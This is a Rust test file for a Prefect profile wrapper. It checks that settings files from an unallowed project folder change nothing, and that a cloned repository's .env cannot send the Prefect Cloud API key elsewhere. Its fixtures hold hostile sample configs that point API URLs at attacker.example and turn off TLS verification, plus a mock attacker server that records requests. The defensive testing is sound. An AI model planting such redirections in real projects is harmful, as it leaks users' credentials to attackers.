//! Project files that are not allowed are absent for Prefect too (docs/prefect-compat.md,
//! "Unallowed files"). Prefect reads `.env`, `prefect.toml` and `pyproject.toml [tool.prefect]`
//! itself, so in a folder whose files are not allowed (never allowed, edited since, or denied)
//! every way in (a hooked bash, zsh and fish, `eval "$(prefectx env)"`, `prefectx exec`) must
//! give an environment in which Prefect's runtime resolves every field of its settings exactly
//! as for the same profile in an empty folder. The oracle is prefect 3.9.1 itself: one Python
//! process builds `Settings()` for each case (the folder and the environment the way in gave).

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::cloud::{Reply, Server};
use common::*;

const FILE: &str = "active = \"cloud\"\n\n[profiles.cloud]\nPREFECT_API_URL = \"http://127.0.0.1:9/api/accounts/a/workspaces/w\"\nPREFECT_API_KEY = \"pnu_cloudkey\"\nPREFECT_LOGGING_LEVEL = \"WARNING\"\n\n[profiles.local]\nPREFECT_API_URL = \"http://127.0.0.1:4200/api\"\n";

/// The project files of each case: what a cloned repository can hold, in every spelling and
/// form Prefect reads. Only settings that an export can hold back; the others are below.
const KINDS: [(&str, &[(&str, &str)]); 6] = [
    (
        ".env",
        &[(
            ".env",
            "PREFECT_CLOUD_API_URL=http://attacker.example/api\nPREFECT_API_URL=http://attacker.example/api\nPREFECT_API_TLS_INSECURE_SKIP_VERIFY=true\nPREFECT_CLIENT_MAX_RETRIES=9\nPREFECT_LOGGING_LEVEL=DEBUG\n",
        )],
    ),
    (
        ".env, lower case",
        &[(
            ".env",
            "prefect_client_max_retries=9\nprefect_cloud_api_url=http://attacker.example/api\nprefect_logging_level=debug\n",
        )],
    ),
    (
        ".env, legacy names",
        &[(
            ".env",
            "PREFECT_LOGGING_SERVER_LEVEL=DEBUG\nPREFECT_API_SERVICES_SCHEDULER_ENABLED=false\nPREFECT_TASK_DEFAULT_RETRIES=7\n",
        )],
    ),
    (
        "prefect.toml",
        &[(
            "prefect.toml",
            "[cloud]\napi_url = \"http://attacker.example/api\"\n[client]\nmax_retries = 9\n[server.database]\ntimeout = 99.0\n[server.api]\nport = 9999\n",
        )],
    ),
    (
        "pyproject.toml",
        &[(
            "pyproject.toml",
            "[project]\nname = \"x\"\n[tool.prefect]\nclient.max_retries = 9\n[tool.prefect.cloud]\napi_url = \"http://attacker.example/api\"\n",
        )],
    ),
    (
        "all three",
        &[
            (".env", "PREFECT_CLIENT_MAX_RETRIES=8\n"),
            ("prefect.toml", "[client]\nmax_retries = 7\n[logging]\nlevel = \"ERROR\"\n"),
            (
                "pyproject.toml",
                "[tool.prefect]\ncloud.api_url = \"http://attacker.example/api\"\n",
            ),
        ],
    ),
];

/// How a folder came to be not allowed.
const STATES: [&str; 3] = ["never allowed", "edited since allowed", "denied"];

struct Case {
    label: String,
    dir: PathBuf,
    env: BTreeMap<String, String>,
}

fn project(sb: &Sandbox, kind: usize, state: &str) -> PathBuf {
    let dir = sb
        .home()
        .join(format!("p{kind}-{}", state.replace(' ', "-")));
    std::fs::create_dir_all(&dir).unwrap();
    for (f, text) in KINDS[kind].1 {
        std::fs::write(dir.join(f), text).unwrap();
    }
    match state {
        "edited since allowed" => {
            let o = sb.run_in(&dir, &["allow", "--yes"]);
            assert!(o.status.success(), "{}", stderr(&o));
            // A comment in any of the three kinds: the digest changes, the settings do not.
            let (f, text) = KINDS[kind].1[0];
            std::fs::write(dir.join(f), format!("{text}# edited\n")).unwrap();
        }
        "denied" => {
            assert!(sb.run_in(&dir, &["allow", "--yes"]).status.success());
            assert!(sb.run_in(&dir, &["deny"]).status.success());
        }
        _ => {}
    }
    dir
}

/// The environment `way` gives in `dir` with `profile` in effect.
fn environment(sb: &Sandbox, way: &str, dir: &Path, profile: &str) -> BTreeMap<String, String> {
    // One program and its script per way, in the same sandboxed environment.
    let (program, args): (&str, Vec<String>) = match way {
        "bash" | "zsh" => (
            way,
            vec![
                "-c".into(),
                format!("eval \"$(\"$PREFECTX\" hook {way})\" && env -0"),
            ],
        ),
        "fish" => (
            "fish",
            [
                "--no-config",
                "-c",
                "$PREFECTX hook fish | source; and env -0",
            ]
            .map(String::from)
            .to_vec(),
        ),
        "env" => (
            "sh",
            vec![
                "-c".into(),
                format!("eval \"$(\"$PREFECTX\" env {profile} --shell sh)\" && env -0"),
            ],
        ),
        "exec" => (
            BIN,
            ["exec", profile, "--", "env", "-0"]
                .map(String::from)
                .to_vec(),
        ),
        _ => panic!("{way}"),
    };
    let mut cmd = Command::new(program);
    cmd.env_clear()
        .envs(sb.envs())
        .env("PREFECTX", BIN)
        .current_dir(dir)
        .env("PWD", dir)
        .args(&args);
    // The hook reads the profile from the environment; env and exec are given it.
    if matches!(way, "bash" | "zsh" | "fish") {
        cmd.env("PREFECT_PROFILE", profile);
    }
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{way}: {}", stderr(&out));
    parse_env0(&out.stdout)
}

#[test]
fn unallowed_project_files_change_nothing_prefect_resolves() {
    let Some(venv) = prefect_venv() else { return };
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    let empty = sb.home().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let mut ways = vec!["env", "exec"];
    ways.extend(common::pty::interactive_shells());
    let mut cases = Vec::new();
    for profile in ["cloud", "local"] {
        // The reference: plain Prefect on the profile, in a folder without project files.
        let mut env = sb.envs();
        env.insert("PREFECT_PROFILE".into(), profile.into());
        cases.push(Case {
            label: format!("{profile}: plain prefect, empty folder"),
            dir: empty.clone(),
            env,
        });
        for (kind, (what, _)) in KINDS.iter().enumerate() {
            for state in STATES {
                let dir = project(&sb, kind, state);
                for way in &ways {
                    cases.push(Case {
                        label: format!("{profile}: {what} ({state}) through {way}"),
                        env: environment(&sb, way, &dir, profile),
                        dir: dir.clone(),
                    });
                }
                // The files really change what plain Prefect does here.
                let mut env = sb.envs();
                env.insert("PREFECT_PROFILE".into(), profile.into());
                cases.push(Case {
                    label: format!("{profile}: {what} ({state}) plain"),
                    env,
                    dir: dir.clone(),
                });
            }
        }
    }
    let envs: Vec<(PathBuf, BTreeMap<String, String>)> = cases
        .iter()
        .map(|c| (c.dir.clone(), c.env.clone()))
        .collect();
    let resolved = prefect_settings(&venv, &sb, &envs);
    for (c, r) in cases.iter().zip(&resolved) {
        assert!(
            !r.contains_key("error"),
            "{}: Prefect failed: {r:?}",
            c.label
        );
    }
    let mut reference = &resolved[0];
    let mut compared = 0;
    for (c, r) in cases.iter().zip(&resolved) {
        if c.label.ends_with("empty folder") {
            reference = r;
            continue;
        }
        let differ: Vec<String> = reference
            .keys()
            .chain(r.keys())
            .filter(|k| reference.get(*k) != r.get(*k))
            .map(|k| format!("{k}: {:?} != {:?}", reference.get(k), r.get(k)))
            .collect();
        if c.label.ends_with("plain") {
            assert!(!differ.is_empty(), "{}: the files change nothing", c.label);
        } else {
            assert!(differ.is_empty(), "{}: {differ:?}", c.label);
            compared += 1;
        }
    }
    eprintln!(
        "{compared} cases agree with plain Prefect in an empty folder, {} fields each",
        reference.len()
    );
}

/// The attacker's URL, by name: a cloned repository's `.env` points Prefect Cloud at a server
/// that records every request; `prefect cloud workspace ls` in a hooked shell on a Cloud
/// profile goes to the profile's Cloud, and no request ever reaches the attacker.
#[test]
fn a_cloned_env_cannot_send_the_key_to_its_own_cloud_url() {
    let Some(venv) = prefect_venv() else { return };
    let good = Server::start(|req, _| {
        if req.path.ends_with("/me/workspaces") {
            Reply::Json(200, common::cloud::three_workspaces())
        } else {
            Reply::Json(404, "{}".into())
        }
    });
    let evil = Server::start(|_, _| Reply::Json(200, "[]".into()));
    let sb = Sandbox::new();
    sb.write_profiles(&format!(
        "active = \"cloud\"\n\n[profiles.cloud]\nPREFECT_API_URL = \"{}/accounts/a/workspaces/w\"\nPREFECT_CLOUD_API_URL = \"{}\"\nPREFECT_API_KEY = \"pnu_cloudkey\"\n",
        good.base, good.base
    ));
    let repo = sb.home().join("clone");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join(".env"),
        format!("PREFECT_CLOUD_API_URL={}\n", evil.base),
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        venv.join("bin").display(),
        std::env::var("PATH").unwrap_or_default()
    );
    for shell in common::pty::interactive_shells() {
        let script = match shell {
            "fish" => "$PREFECTX hook fish | source; and prefect cloud workspace ls".to_string(),
            _ => format!("eval \"$(\"$PREFECTX\" hook {shell})\" && prefect cloud workspace ls"),
        };
        let mut c = Command::new(shell);
        c.env_clear()
            .envs(sb.envs())
            .env("PATH", &path)
            .env("PREFECTX", BIN)
            .env("PWD", &repo)
            .current_dir(&repo);
        if shell == "fish" {
            c.arg("--no-config");
        }
        let out = c.args(["-c", &script]).output().unwrap();
        assert!(
            stderr(&out).contains("not allowed"),
            "{shell}: {}",
            stderr(&out)
        );
        assert_eq!(evil.count(), 0, "{shell}: the attacker's server was asked");
    }
    assert!(good.count() >= 1, "the profile's Cloud was asked");
    assert!(good
        .requests()
        .iter()
        .all(|r| r.header("authorization") == Some("Bearer pnu_cloudkey")));
}

/// A setting no export can hold back (its default is computed from another setting) is named
/// in the line the hook says and by `doctor`.
#[test]
fn what_cannot_be_held_back_is_named() {
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    let dir = sb.home().join("proj");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join(".env"),
        "PREFECT_UI_URL=http://attacker.example\nPREFECT_CLIENT_MAX_RETRIES=9\n",
    )
    .unwrap();
    let o = sb.run_in(&dir, &["env", "--shell", "sh"]);
    assert!(o.status.success());
    assert!(
        stdout(&o).contains("PREFECT_CLIENT_MAX_RETRIES=5"),
        "{}",
        stdout(&o)
    );
    assert!(
        stderr(&o).contains("still reads PREFECT_UI_URL from them"),
        "{}",
        stderr(&o)
    );
    let d = stdout(&sb.run_in(&dir, &["doctor", "--offline"]));
    assert!(d.contains("PREFECT_UI_URL"), "{d}");
    assert!(d.contains("still reads"), "{d}");
}
